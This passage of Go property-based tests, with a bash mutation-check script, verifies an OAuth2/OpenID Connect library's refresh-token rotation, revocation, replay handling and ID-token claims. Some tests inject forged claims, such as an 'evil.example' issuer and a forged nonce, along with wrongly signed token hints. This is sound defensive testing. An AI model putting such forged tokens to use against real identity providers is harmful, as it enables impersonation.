			e.viol("C05/foreign-client-refreshed", "%v of client %s honoured for client %s", r, g.Client, presenter)
		case has("client-lost-grant-type"), has("client-lost-scope"), has("client-lost-audience"):
			e.viol("C05/refresh-after-registration-shrunk", "%v honoured although %v", r, reasons)
		case has("expired"):
			e.viol("C07/expired-refresh-honoured", "%v expired at %v, honoured at %v", r, r.Expiry, h.Now())
		case has("revoked"):
			e.viol("C08/revoked-refresh-token-honoured", "%v was revoked and then honoured", r)
		case has("dead"):
			e.viol(r.Why, "%v must be inactive (%s) but was honoured at the token endpoint", r, r.Why)
		}
		if tr.OK() {
			r.Consumed = true
			e.setInactive(r, "C04/rotated-refresh-token-still-active")
			e.registerTokens(g, tr, r.Gen+1, "refresh")
		}
		e.invariant("")
		return
	}
	r.Fails++
	e.label("refresh-refused:" + strings.Join(reasons, "+"))
	if len(reasons) == 2 && has("used") && has("foreign") {
		// whoever presents it: an already-used refresh token is a replay, and the replay kills the family (the
		// presenter is an authenticated client entitled to the refresh grant, or a third reason would be listed)
		e.label("refresh-replay")
		e.label("refresh-replay-by-foreign-client")
		e.killFamily(g, "C04/reuse-did-not-kill-family")
		e.invariant("C04/reuse-affected-other-grant", g)
		return
	}
	if len(reasons) == 2 && has("used") && has("expired") {
		// an already-used refresh token stays an already-used refresh token after its own expiry: presenting it
		// is a replay and kills the family (the newest tokens may well be alive)
		e.label("refresh-replay")
		e.label("refresh-replay-of-expired-token")
		e.killFamily(g, "C04/reuse-did-not-kill-family")
		e.invariant("C04/reuse-affected-other-grant", g)
		return
	}
	if len(reasons) == 1 {
		switch reasons[0] {
		case "used":
			if tr.Err.Name != "invalid_grant" {
				e.viol("C04/reuse-wrong-error-class", "reuse of %v answered %v, want invalid_grant", r, tr.Err)
			}
			e.label("refresh-replay")
			if g.Creds[len(g.Creds)-1].Gen-r.Gen >= 2 {
				e.label("refresh-replay-of-old-generation")
			}
			e.killFamily(g, "C04/reuse-did-not-kill-family")
			e.invariant("C04/reuse-affected-other-grant", g)
			return
		case "foreign":
			if tr.Err.Name != "invalid_grant" {
				e.viol("C05/wrong-error-class", "foreign refresh of %v answered %v, want invalid_grant", r, tr.Err)
			}
			e.invariant("C05/refused-refresh-changed-state")
			return
		case "expired":
			e.invariant("")
			return
		case "client-lost-grant-type", "client-lost-scope", "client-lost-audience":
			e.label("refresh-refused-after-client-edit")
			e.invariant("C05/refused-refresh-changed-state")
			return
		}
	}
	// several reasons, or revoked/dead tokens: the family state is unspecified
	e.unspecFamily(g, "refresh-refused-with-overlapping-reasons")
	e.invariant("")
}

// ---------------------------------------------------------------- revoke

func (e *Eng) actRevoke() {
	t := e.t
	var pool []*Cred
	for _, c := range e.creds {
		if c.Kind == "access" || c.Kind == "refresh" {
			pool = append(pool, c)
		}
	}
	if len(pool) == 0 {
		t.Skip("no token")
	}
	if len(pool) > 4 && rapid.IntRange(0, 9).Draw(t, "recent") < 6 {
		pool = pool[len(pool)-4:]
	}
	c := pick(t, pool, "token")
	g := c.G
	caller := g.Client
	mode := "owner"
	switch rapid.IntRange(0, 9).Draw(t, "caller") {
	case 0, 1:
		caller = otherClient(t, e.clients, g.Client, "foreign")
		mode = "foreign"
	case 2:
		if caller != "P" {
			mode = "badauth"
		}
	}
	hint := pick(t, []string{"", "access_token", "refresh_token", "garbage"}, "hint")
	form := url.Values{"token": {c.Val}}
	if hint != "" {
		form.Set("token_type_hint", hint)
	}
	auth := e.auth(caller)
	if mode == "badauth" {
		auth.BasicPass = "wrong"
	}
	state, _ := e.effective(c)
	stored := c.Exp // ignoring time: is the record still live in the store?
	if stored == Active && c.Pruned == 2 {
		stored = Inactive // the row of the expired access token is gone: an unknown token for the store
	} else if stored == Active && c.Pruned == 1 {
		stored = Unspec
	}
	// now and then one of the two revoking writes fails (lost connection): the endpoint may answer an error, but if it
	// *accepts* the request the statement's consequence must hold all the same
	faultAt := ""
	if mode == "owner" && e.cfg.Prop == "C08" && rapid.IntRange(0, 7).Draw(t, "revokeWriteFails") == 0 {
		faultAt = pick(t, []string{"RevokeRefreshToken", "RevokeAccessToken"}, "failingWrite")
		e.w.W.Before = func(c *h.Call) error {
			if c.Method == faultAt {
				return errors.New("connection reset by peer")
			}
			return nil
		}
		e.label("revoke-with-failing-write")
	}
	res := e.w.Revoke(e.form(caller, form), auth)
	e.w.W.Before = nil
	e.step(fmt.Sprintf("revoke:%s:%s:%s", mode, c.Kind, state))
	if faultAt != "" {
		e.logf("revoke %v by=%s hint=%q with %s failing -> %v http=%d", c, caller, hint, faultAt, res.Err, res.Status)
		if !res.Err.OK() {
			// refused: what the half-done revocation left behind is unspecified
			e.unspecFamily(g, "revocation-with-failing-write")
			e.invariant("")
			return
		}
		// accepted: the same consequences as a fault-free revocation (below)
	}
	e.logf("revoke %v by=%s(%s) hint=%q state=%v -> %v http=%d", c, caller, mode, hint, state, res.Err, res.Status)
	switch mode {
	case "badauth":
		if res.Err.OK() {
			e.viol("C08/unauthenticated-revocation-accepted", "revocation with a wrong client secret was accepted")
		} else if res.Err.Name != "invalid_client" && res.Err.Name != "invalid_request" {
			e.viol("C08/unauthenticated-wrong-error-class", "unauthenticated revocation answered %v", res.Err)
		}
		e.label("revoke-unauthenticated")
		e.invariant("C08/unauthenticated-revocation-changed-state")
	case "foreign":
		if stored == Active {
			if res.Err.Name != "unauthorized_client" {
				e.viol("C08/foreign-revocation-not-refused", "client %s revoking %v of client %s: got %v, want unauthorized_client", caller, c, g.Client, res.Err)
			}
		} else if !res.Err.OK() && res.Err.Name != "unauthorized_client" {
			e.viol("C08/foreign-revocation-wrong-answer", "client %s revoking dead %v: got %v", caller, c, res.Err)
		}
		e.label("revoke-foreign")
		e.invariant("C08/foreign-revocation-changed-state")
	default:
		if !res.Err.OK() {
			e.viol("C08/owner-revocation-refused", "owner revoking %v (state %v): %v", c, state, res.Err)
			e.unspecFamily(g, "revocation-refused")
			e.invariant("")
			return
		}
		if res.Status != 200 {
			e.viol("C08/owner-revocation-status", "owner revocation answered HTTP %d", res.Status)
		}
		switch {
		case stored == Active:
			expired := e.timeExpired(c) != Active
			hasLivePair := c.Pair != nil && c.Pair.Exp == Active && e.timeExpired(c.Pair) == Active
			c.Revoked = true
			e.setInactive(c, "C08/revoked-token-still-active")
			if expired {
				e.setUnspec(c.Pair, "revoked-an-expired-token")
			} else {
				if c.Pair != nil {
					c.Pair.Revoked = true
				}
				e.setInactive(c.Pair, "C08/token-issued-alongside-revoked-token-still-active")
			}
			for _, o := range g.Creds {
				if o != c && o != c.Pair && (o.Kind == "access" || o.Kind == "refresh") {
					e.setUnspec(o, "sibling-of-revoked-token")
				}
			}
			e.label("revoke-live")
			if hasLivePair {
				e.label("revoke-live-with-live-sibling")
			}
			if c.Origin == "authz" && g.Flow == "hybrid" {
				e.label("revoke-hybrid-authz-token")
			}
			e.invariant("C08/revocation-affected-other-grant", g)
		case stored == Inactive:
			// already rotated / revoked / killed: success and nothing changes
			e.label("revoke-dead")
			e.invariant("C08/revoking-dead-token-changed-state")
		default:
			// whatever state the token was in (the model does not know): the endpoint accepted its owner's request, so
			// from now on it is inactive
			e.unspecFamily(g, "revoked-unspecified-token")
			if c.Pruned == 0 {
				c.Revoked = true
				e.setInactive(c, "C08/revoked-token-still-active")
				e.label("revoke-token-of-unspecified-state")
			}
			e.invariant("")
		}
	}
}

// ---------------------------------------------------------------- two refreshes of one token in flight together

// actOverlappingRefresh presents one live refresh token in two requests whose storage calls interleave: the first
// request runs for k storage calls, then the second for k, then the first to its end, then the second. Which of them
// wins is the store's business (C19 owns that); the model learns the tokens that were handed out and knows nothing
// about the family's state afterwards. What the other statements say about those tokens later still holds.
func (e *Eng) actOverlappingRefresh() {
	t := e.t
	if e.w.Tx != nil {
		t.Skip("reference store only")
	}
	r := e.pickCred("refresh", "refresh")
	if r == nil {
		t.Skip("no refresh token")
	}
	if st, _ := e.effective(r); st != Active || r.Consumed {
		t.Skip("refresh token not live")
	}
	g := r.G
	k := rapid.IntRange(1, 6).Draw(t, "firstRequestRunsForCalls")
	var res [2]*h.TokenResult
	mk := func(i int) func() {
		return func() {
			res[i] = e.w.Token(e.form(g.Client, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {r.Val}}), e.auth(g.Client), h.TokenOpts{})
		}
	}
	n := 0
	sch, stuck := h.RunSchedule(e.w, []func(){mk(0), mk(1)}, func(enabled []int) int {
		n++
		want := 0
		if n > k && n <= 2*k {
			want = 1
		}
		for i, op := range enabled {
			if op == want {
				return i
			}
		}
		return 0
	})
	if stuck {
		t.Fatalf("VERIF-INFRA: overlapping refreshes did not finish (trace %v)", sch.Trace)
	}
	if len(sch.Panics) > 0 {
		e.viol("C19/panic", "overlapping refreshes panicked: %v (trace %v)", sch.Panics, sch.Trace)
	}
	e.step(fmt.Sprintf("overlappingRefresh:%d", k))
	nOK := 0
	for i := range res {
		if res[i] != nil && res[i].OK() {
			nOK++
			r.Consumed = true
			e.registerTokens(g, res[i], r.Gen+1, "refresh")
		}
	}
	e.logf("overlappingRefresh %v k=%d trace=%v -> %v / %v", r, k, sch.Trace, res[0].Err, res[1].Err)
	e.unspecFamily(g, "overlapping-refreshes")
	e.label(fmt.Sprintf("overlapping-refreshes-both-ok=%v", nOK == 2))
	e.invariant("")
}

// ---------------------------------------------------------------- other grant origins

func (e *Eng) actPassword() {
	t := e.t
	client := pick(t, []string{"A", "B"}, "client")
	scopes := e.drawScopes(false, "scope")
	form := url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}}
	if len(scopes) > 0 {
		form.Set("scope", strings.Join(scopes, " "))
	}
	tr := e.w.Token(form, e.auth(client), h.TokenOpts{Session: e.sessFor("")})
	e.step("password")
	if !tr.OK() {
		e.logf("password client=%s -> %v (not asserted)", client, tr.Err)
		e.label("password-refused")
		return
	}
	g := e.newGrant(client, "password", scopes, nil, "")
	e.registerTokens(g, tr, 0, "password")
	e.label("flow=password")
	e.logf("password client=%s scopes=%q -> g%d refresh=%v", client, scopes, g.N, tr.Refresh != "")
	e.invariant("")
}

func (e *Eng) actClientCreds() {
	t := e.t
	client := pick(t, []string{"A", "B"}, "client")
	var scopes []string
	if rapid.Bool().Draw(t, "a") {
		scopes = append(scopes, "a")
	}
	if rapid.Bool().Draw(t, "b") {
		scopes = append(scopes, "b")
	}
	form := url.Values{"grant_type": {"client_credentials"}}
	if len(scopes) > 0 {
		form.Set("scope", strings.Join(scopes, " "))
	}
	tr := e.w.Token(form, e.auth(client), h.TokenOpts{})
	e.step("client_credentials")
	if !tr.OK() {
		e.label("cc-refused")
		return
	}
	g := e.newGrant(client, "client_credentials", scopes, nil, "")
	if tr.Refresh != "" {
		e.viol("C05/refresh-token-issued-without-entitlement", "client_credentials returned a refresh token")
	}
	life := time.Duration(tr.ExpiresIn) * time.Second
	e.addCred(g, "access", tr.Access, "token", 0, life)
	e.label("flow=client_credentials")
	e.logf("client_credentials client=%s scopes=%q -> g%d", client, scopes, g.N)
	e.invariant("")
}

// ---------------------------------------------------------------- time

func (e *Eng) actAdvance() {
	t := e.t
	var d time.Duration
	if rapid.Bool().Draw(t, "toExpiry") {
		// just before / just past the next expiry known to the model
		var next time.Time
		for _, c := range e.creds {
			if !c.Expiry.IsZero() && c.Expiry.After(h.Now().Add(-3*time.Second)) && (next.IsZero() || c.Expiry.Before(next)) {
				next = c.Expiry
			}
		}
		if next.IsZero() {
			d = time.Second
		} else {
			d = next.Sub(h.Now()) + time.Duration(rapid.SampledFrom([]int{-5, -3, 3, 5, 30}).Draw(t, "around"))*time.Second
			if d <= 0 {
				d = time.Second
			}
		}
	} else {
		d = time.Duration(rapid.SampledFrom([]int{1, 10, 45, 100, 600, 1000, 3700, 90000, 2700000}).Draw(t, "secs")) * time.Second
	}
	h.Advance(d)
	if e.w.Tx != nil && rapid.IntRange(0, 2).Draw(t, "storeHousekeeping") == 0 {
		// the store's housekeeping removes access-token rows whose own expiry has passed (they are inactive anyway)
		if n := e.w.Tx.PruneExpiredAccessTokens(h.Now().Add(-10 * time.Second)); n > 0 {
			e.label("store-pruned-expired-access-tokens")
			e.logf("store housekeeping removed %d expired access-token rows", n)
		}
		for _, c := range e.creds {
			if c.Kind != "access" || c.Expiry.IsZero() {
				continue
			}
			switch age := h.Now().Sub(c.Expiry); {
			case age > 12*time.Second:
				c.Pruned = 2
			case age > 8*time.Second && c.Pruned == 0:
				c.Pruned = 1
			}
		}
	}
	e.step("advance")
	e.logf("advance %v", d)
	e.label("advance")
	e.invariant("")
}

// ---------------------------------------------------------------- client registration edits (C05)

func (e *Eng) actEditClient() {
	t := e.t
	id := pick(t, []string{"A", "B"}, "client")
	c := e.w.Mem.Clients[id].(*h.HClient)
	if rapid.Bool().Draw(t, "replaceRecord") {
		// an administrator's update replaces the registration record (a new object), it does not mutate the
		// object that requests stored earlier may still point to
		dc := *c.DefaultClient
		oc := *c.DefaultOpenIDConnectClient
		oc.DefaultClient = &dc
		nc := &h.HClient{DefaultOpenIDConnectClient: &oc, ResponseModes: c.ResponseModes}
		e.w.Mem.Clients[id] = nc
		c = nc
		e.label("editClient-replaces-record")
	}
	full := stdClient(id, false)
	switch rapid.IntRange(0, 3).Draw(t, "edit") {
	case 0: // restore
		c.Scopes, c.Audience, c.GrantTypes = full.Scopes, full.Audience, full.GrantTypes
		e.logf("editClient %s restore", id)
	case 1:
		s := pick(t, []string{"a", "b", "offline", "openid", "offline_access"}, "dropScope")
		var n []string
		for _, x := range c.Scopes {
			if x != s {
				n = append(n, x)
			}
		}
		c.Scopes = n
		e.logf("editClient %s drop scope %s", id, s)
	case 2:
		c.Audience = []string{"https://other.example"}
		e.logf("editClient %s drop audience", id)
	case 3:
		var n []string
		for _, x := range c.GrantTypes {
			if x != "refresh_token" {
				n = append(n, x)
			}
		}
		c.GrantTypes = n
		e.logf("editClient %s drop refresh_token grant", id)
	}
	e.edits[id]++
	e.step("editClient")
	e.label("editClient")
	e.invariant("C05/client-edit-changed-token-state")
}
