package props

import (
	"crypto/ecdsa"
	"crypto/rsa"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"github.com/ory/fosite/handler/openid"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C14 — ID Tokens are bound to the right client, user, nonce and tokens.

type idKey struct {
	name string
	key  interface{} // what the provider is configured with
	pub  interface{}
	alg  string
	hdr  string // alg to put into the session's ID token headers ("" = none)
}

func idKeys() []idKey {
	p384, p521 := h.ECKey("P-384"), h.ECKey("P-521")
	return []idKey{
		{"rsa", h.RSAKey(0), &h.RSAKey(0).PublicKey, "RS256", ""},
		{"rsa-hdr", h.RSAKey(0), &h.RSAKey(0).PublicKey, "RS256", "RS256"},
		{"p256", h.ECKey("P-256"), &h.ECKey("P-256").PublicKey, "ES256", ""},
		{"p256-jwk", &jose.JSONWebKey{Key: h.ECKey("P-256"), Algorithm: "ES256", KeyID: "k256"}, &h.ECKey("P-256").PublicKey, "ES256", "ES256"},
		{"p384-jwk", &jose.JSONWebKey{Key: p384, Algorithm: "ES384", KeyID: "k384"}, &p384.PublicKey, "ES384", "ES384"},
		{"p521-jwk", &jose.JSONWebKey{Key: p521, Algorithm: "ES512", KeyID: "k521"}, &p521.PublicKey, "ES512", "ES512"},
	}
}

var _ = rsa.PublicKey{}
var _ = ecdsa.PublicKey{}

type c14Sess struct {
	subject   string
	authRel   string // auth_time relative to requested_at
	presetExp string
	issuer    string
	extra     bool
	presetAud []string // audiences the integrator put into the session's ID token claims (a resource server, say)
}

func TestC14_IDTokens(t *testing.T) {
	h.SetProperty("C14")
	selfTest(t)
	keys := idKeys()
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		k := keys[rapid.IntRange(0, len(keys)-1).Draw(rt, "key")]
		idLife := time.Duration(rapid.SampledFrom([]int{0, 60, 3600, 7200}).Draw(rt, "idTokenLifespan")) * time.Second
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		w := h.NewWorld(h.Spec{Store: store, IDTokenKey: k.key, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) { c.IDTokenLifespan = idLife }})
		effLife := idLife
		if effLife == 0 {
			effLife = time.Hour
		}
		cl := stdClient("c14", false)
		cl.Secret = w.HashSecret("s14")
		w.AddClient(cl, "s14")

		flow := rapid.SampledFrom([]string{"code", "code", "id_token", "id_token token", "code id_token", "code token", "code id_token token", "device"}).Draw(rt, "flow")
		var ss c14Sess
		ss.subject = rapid.SampledFrom([]string{"alice", "alice", "alice", "bob@example.org", ""}).Draw(rt, "subject")
		ss.authRel = rapid.SampledFrom([]string{"equal", "equal", "before-1h", "before-10s", "after-2s", "zero"}).Draw(rt, "authTime")
		ss.presetExp = rapid.SampledFrom([]string{"", "", "", "future-10m", "future-3h", "past"}).Draw(rt, "presetExpiry")
		ss.issuer = rapid.SampledFrom([]string{"", "", "https://custom-issuer.example"}).Draw(rt, "sessionIssuer")
		ss.extra = rapid.Bool().Draw(rt, "extraClaims")
		switch rapid.IntRange(0, 6).Draw(rt, "presetAudience") {
		case 0:
			ss.presetAud = []string{"https://rs.example"}
		case 1:
			ss.presetAud = []string{"another-client", "https://rs.example"}
		case 2:
			// another party whose name differs from the requesting client's id only in letter case
			ss.presetAud = []string{"C14"}
		}
		rat := h.Now().UTC().Truncate(time.Second)
		// the integrator's session type: the harness' own, or fosite's openid.DefaultSession (whose Clone is the library's)
		libSession := rapid.Bool().Draw(rt, "fositeSessionType")
		var mkSess func() *h.Sess
		mkSession := func() fosite.Session {
			s := mkSess()
			if libSession {
				return &openid.DefaultSession{Claims: s.Claims, Headers: s.Headers, Subject: s.Subject}
			}
			return s
		}
		if libSession {
			h.Label("session=openid.DefaultSession")
		}
		mkSess = func() *h.Sess {
			s := h.NewSess(ss.subject)
			s.Claims.RequestedAt = rat
			switch ss.authRel {
			case "equal":
				s.Claims.AuthTime = rat
			case "before-1h":
				s.Claims.AuthTime = rat.Add(-time.Hour)
			case "before-10s":
				s.Claims.AuthTime = rat.Add(-10 * time.Second)
			case "after-2s":
				s.Claims.AuthTime = rat.Add(2 * time.Second)
			case "zero":
				s.Claims.AuthTime = time.Time{}
			}
			switch ss.presetExp {
			case "future-10m":
				s.Claims.ExpiresAt = h.Now().UTC().Add(10 * time.Minute).Truncate(time.Second)
			case "future-3h":
				s.Claims.ExpiresAt = h.Now().UTC().Add(3 * time.Hour).Truncate(time.Second)
			case "past":
				s.Claims.ExpiresAt = h.Now().UTC().Add(-time.Minute).Truncate(time.Second)
			}
			s.Claims.Issuer = ss.issuer
			if len(ss.presetAud) > 0 {
				s.Claims.Audience = append([]string{}, ss.presetAud...)
				h.Label("session-presets-audience")
			}
			if ss.extra {
				s.Claims.Extra = map[string]interface{}{"foo": "bar", "sub": "mallory", "aud": "someone-else", "nonce": "forged-nonce-0123456789", "at_hash": "forged", "c_hash": "forged", "exp": 4102444800, "iss": "https://evil.example"}
			}
			if k.hdr != "" {
				s.Headers.Add("alg", k.hdr)
			}
			return s
		}
		nonce := rapid.SampledFrom([]string{"", "nonce-0123456789", "n&o=n#c e+%é/?12345", "12345678"}).Draw(rt, "nonce")
		if flow == "device" {
			nonce = "" // the device authorization request has no nonce parameter
		}
		maxAge := rapid.SampledFrom([]string{"", "", "1", "5", "3600", "86400"}).Draw(rt, "max_age")
		prompt := rapid.SampledFrom([]string{"", "", "none", "login", "consent", "login consent"}).Draw(rt, "prompt")
		hintKind := rapid.SampledFrom([]string{"", "", "", "own", "other-subject", "expired-own", "expired-other-subject", "garbage", "other-key"}).Draw(rt, "id_token_hint")
		openidGranted := rapid.IntRange(0, 5).Draw(rt, "openidGranted") != 0
		hint := ""
		mkHint := func(sub string, exp time.Time, key interface{}, alg string) string {
			kk := key
			if j, ok := key.(*jose.JSONWebKey); ok {
				kk = j.Key
			}
			return h.MustSignJWT(kk, alg, "", map[string]interface{}{"sub": sub, "iss": h.Issuer, "aud": []string{"c14"}, "exp": exp.Unix(), "iat": h.Now().Add(-time.Hour).Unix()})
		}
		switch hintKind {
		case "own":
			hint = mkHint(ss.subject, h.Now().Add(time.Hour), k.key, k.alg)
		case "other-subject":
			hint = mkHint("someone-else", h.Now().Add(time.Hour), k.key, k.alg)
		case "expired-own":
			hint = mkHint(ss.subject, h.Now().Add(-time.Hour), k.key, k.alg)
		case "expired-other-subject":
			// an expired hint is still a hint: it names the end-user the RP expects
			hint = mkHint("someone-else", h.Now().Add(-time.Hour), k.key, k.alg)
		case "garbage":
			hint = "abc.def.ghi"
		case "other-key":
			hint = mkHint(ss.subject, h.Now().Add(time.Hour), h.RSAKey(2), "RS256")
		}

		// ---- reference: may an ID token be issued at all?
		var blockers []string
		if !openidGranted {
			blockers = append(blockers, "openid not granted")
		}
		if ss.subject == "" {
			blockers = append(blockers, "empty subject")
		}
		auth := map[string]time.Time{"equal": rat, "before-1h": rat.Add(-time.Hour), "before-10s": rat.Add(-10 * time.Second), "after-2s": rat.Add(2 * time.Second)}[ss.authRel]
		if flow != "device" {
			if maxAge != "" {
				var n int64
				fmt.Sscan(maxAge, &n)
				if ss.authRel == "zero" || auth.Add(time.Duration(n)*time.Second).Before(rat) {
					blockers = append(blockers, "max_age not satisfied")
				}
			}
			if strings.Contains(prompt, "none") && ss.authRel != "zero" && auth.After(rat) {
				blockers = append(blockers, "prompt=none but the user authenticated during the request")
			}
			if prompt == "login" && ss.authRel != "zero" && auth.Before(rat) {
				blockers = append(blockers, "prompt=login but the user was not re-authenticated")
			}
			if hintKind == "other-subject" || hintKind == "expired-other-subject" {
				blockers = append(blockers, "id_token_hint names another subject")
			}
		}
		if ss.presetExp == "past" {
			blockers = append(blockers, "pre-set expiry in the past")
		}

		var log []string
		logf := func(f string, a ...any) {
			s := fmt.Sprintf(f, a...)
			log = append(log, s)
			rt.Logf("%s", s)
		}
		logf("key=%s flow=%q store=%s idLifespan=%v session{sub=%q auth=%s presetExp=%q iss=%q extra=%v} request{nonce=%q max_age=%q prompt=%q hint=%s openid=%v} blockers=%v", k.name, flow, store, idLife, ss.subject, ss.authRel, ss.presetExp, ss.issuer, ss.extra, nonce, maxAge, prompt, hintKind, openidGranted, blockers)
		fail := func(fp, f string, a ...any) {
			h.Violate(rt, fp, "%s\n--- case ---\n%s", fmt.Sprintf(f, a...), strings.Join(log, "\n"))
		}
		nIDTokens := 0
		// checkIDToken verifies one ID token against the response it came in.
		checkIDToken := func(where, idt, access, code string, refresh bool) {
			nIDTokens++
			alg, claims, err := h.VerifyJWT(idt, k.pub)
			if err != nil {
				fail("C14/signature", "%s: ID token does not verify under the server's signing key: %v", where, err)
				return
			}
			if alg != k.alg {
				fail("C14/algorithm", "%s: ID token signed with %s, key is configured for %s", where, alg, k.alg)
			}
			if len(blockers) > 0 && !refresh {
				fail("C14/issued-despite-unmet-condition", "%s: an ID token was issued although: %v", where, blockers)
			}
			if refresh && (!openidGranted || ss.subject == "") {
				fail("C14/issued-despite-unmet-condition", "%s: an ID token was issued on refresh although openid granted=%v subject=%q", where, openidGranted, ss.subject)
			}
			audOK := false
			switch a := claims["aud"].(type) {
			case []interface{}:
				for _, x := range a {
					if x == "c14" {
						audOK = true
					}
				}
			case string:
				audOK = a == "c14"
			}
			if !audOK {
				fail("C14/audience", "%s: aud=%v does not name the requesting client", where, claims["aud"])
			}
			if claims["sub"] != ss.subject {
				fail("C14/subject", "%s: sub=%v, session subject %q", where, claims["sub"], ss.subject)
			}
			wantIss := h.Issuer
			if ss.issuer != "" {
				wantIss = ss.issuer
			}
			if claims["iss"] != wantIss {
				fail("C14/issuer", "%s: iss=%v, want %q", where, claims["iss"], wantIss)
			}
			gotNonce, _ := claims["nonce"].(string)
			if !refresh {
				if gotNonce != nonce {
					fail("C14/nonce", "%s: nonce=%q, request nonce %q", where, gotNonce, nonce)
				}
			} else if gotNonce != "" && gotNonce != nonce {
				fail("C14/nonce", "%s: refresh ID token carries nonce %q, original request nonce %q", where, gotNonce, nonce)
			}
			expF, _ := claims["exp"].(float64)
			exp := time.Unix(int64(expF), 0)
			now := h.Now()
			if !exp.After(now) {
				fail("C14/expiry", "%s: exp=%v is not in the future (now %v)", where, exp.UTC(), now)
			}
			if ss.presetExp == "" || refresh {
				life := effLife
				if exp.After(now.Add(life).Add(2 * time.Second)) {
					fail("C14/expiry", "%s: exp=%v is beyond now+lifespan (%v)", where, exp.UTC(), life)
				}
			} else if ss.presetExp != "past" {
				want := map[string]time.Duration{"future-10m": 10 * time.Minute, "future-3h": 3 * time.Hour}[ss.presetExp]
				if d := exp.Sub(h.Epoch.Add(want)); d > 2*time.Second || d < -2*time.Second {
					fail("C14/expiry", "%s: exp=%v, session pre-set %v after start", where, exp.UTC(), want)
				}
			}
			atHash, _ := claims["at_hash"].(string)
			cHash, _ := claims["c_hash"].(string)
			if access != "" {
				if want := h.LeftHalfHash(k.alg, access); atHash != want {
					fail("C14/at_hash", "%s: at_hash=%q, left half of the %s hash of the access token in the same response is %q", where, atHash, k.alg, want)
				}
			}
			if code != "" {
				if want := h.LeftHalfHash(k.alg, code); cHash != want {
					fail("C14/c_hash", "%s: c_hash=%q, left half of the %s hash of the code in the same response is %q", where, cHash, k.alg, want)
				}
			}
			if refresh && cHash != "" {
				fail("C14/c_hash-on-refresh", "%s: ID token minted on refresh still carries c_hash=%q", where, cHash)
			}
			if ss.extra && claims["foo"] != "bar" {
				h.Label("extra-claim-dropped")
			}
		}

		var code, refreshTok string
		if flow == "device" {
			dr := w.DeviceAuth(url.Values{"client_id": {"c14"}, "scope": {"openid offline a"}}, w.BasicFor("c14"), h.Consent{})
			if dr.DeviceCode == "" {
				rt.Fatalf("VERIF-INFRA: device authorization failed: %v", dr.Err)
			}
			scopes := []string{"offline", "a"}
			if openidGranted {
				scopes = append(scopes, "openid")
			}
			w.DeviceDecide(dr.UserCode, true, h.Consent{Session: mkSession(), Scopes: scopes})
			tr := w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {dr.DeviceCode}}, w.BasicFor("c14"), h.TokenOpts{Session: mkSession()})
			logf("device poll -> %v id_token=%v", tr.Err, tr.IDToken != "")
			if tr.IDToken != "" {
				checkIDToken("device token response", tr.IDToken, tr.Access, "", false)
			}
			refreshTok = tr.Refresh
		} else {
			q := url.Values{"client_id": {"c14"}, "response_type": {flow}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid offline a"}}
			if nonce != "" {
				q.Set("nonce", nonce)
			}
			if maxAge != "" {
				q.Set("max_age", maxAge)
			}
			if prompt != "" {
				q.Set("prompt", prompt)
			}
			if hint != "" {
				q.Set("id_token_hint", hint)
			}
			scopes := []string{"offline", "a"}
			if openidGranted {
				scopes = append(scopes, "openid")
			}
			ar := w.Authorize(q, h.Consent{Session: mkSession(), Scopes: scopes})
			logf("authorize -> %v mode=%s code=%v access=%v id_token=%v", ar.Err, ar.Mode, ar.Code != "", ar.Access != "", ar.IDToken != "")
			if ar.IDToken != "" {
				checkIDToken("authorization response", ar.IDToken, ar.Access, ar.Code, false)
			}
			code = ar.Code
			if code != "" {
				tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {redirectURI}}, w.BasicFor("c14"), h.TokenOpts{Session: h.NewSess("")})
				logf("redeem -> %v id_token=%v", tr.Err, tr.IDToken != "")
				if tr.IDToken != "" {
					checkIDToken("token response", tr.IDToken, tr.Access, "", false)
				}
				refreshTok = tr.Refresh
			}
		}
		if refreshTok != "" && rapid.Bool().Draw(rt, "refresh") {
			h.Advance(time.Duration(rapid.SampledFrom([]int{0, 30, 600}).Draw(rt, "beforeRefresh")) * time.Second)
			tr := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {refreshTok}}, w.BasicFor("c14"), h.TokenOpts{Session: h.NewSess("")})
			logf("refresh -> %v id_token=%v", tr.Err, tr.IDToken != "")
			if tr.IDToken != "" {
				checkIDToken("refresh response", tr.IDToken, tr.Access, "", true)
				h.Label("id-token-on-refresh")
			}
		}
		nontrivial := nIDTokens > 0 || len(blockers) == 1
		h.Case(fmt.Sprintf("C14/%s/%s/%s/%s/%s/%v/%s/%s/%v/%v/%d", k.name, flow, ss.authRel, ss.presetExp, maxAge, nonce != "", prompt, hintKind, ss.subject != "", openidGranted, nIDTokens), nontrivial, func() any {
			return map[string]any{"case": log, "id_tokens_checked": nIDTokens, "blockers": blockers}
		})
		h.Label("flow=" + flow)
		h.Label("key=" + k.name)
		if nIDTokens > 0 {
			h.Label("id-token-issued")
		}
		if len(blockers) == 1 {
			h.Label("single-blocker:" + blockers[0])
		}
	})
	h.MarkCompleted()
}
