#!/bin/bash
# usage: tools/mutcheck.sh <patch.diff> <ID> [<ID>...]   — apply a seeded change to /repo, run the quick checks, revert.
# Prints one line per check: <ID> exit=<n> secs=<s>. Expected for a detected change: exit=1.
set -u
patch="$(realpath "$1")"; shift
cd /repo || exit 2
if [ -n "$(git status --porcelain)" ]; then echo "repo not clean"; exit 2; fi
git apply "$patch" || { echo "patch does not apply"; exit 2; }
trap 'git -C /repo checkout -- . ; git -C /repo clean -fdq' EXIT
cd /verif
for id in "$@"; do
  t0=$(date +%s)
  out=$(VERIF_TIER=${TIER:-quick} ./check run "$id" 2>&1); rc=$?
  t1=$(date +%s)
  echo "$id exit=$rc secs=$((t1-t0)) $(echo "$out" | grep -m1 -A1 '^VIOLATION' | tr '\n' ' ' | cut -c1-300)"
  if [ "$rc" = 2 ]; then echo "$out" | tail -15; fi
done
# replays produced while testing a seeded change are not kept
git -C /verif clean -fdq replays 2>/dev/null
