package props

import (
	"fmt"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/ory/fosite"
	"github.com/ory/fosite/storage"
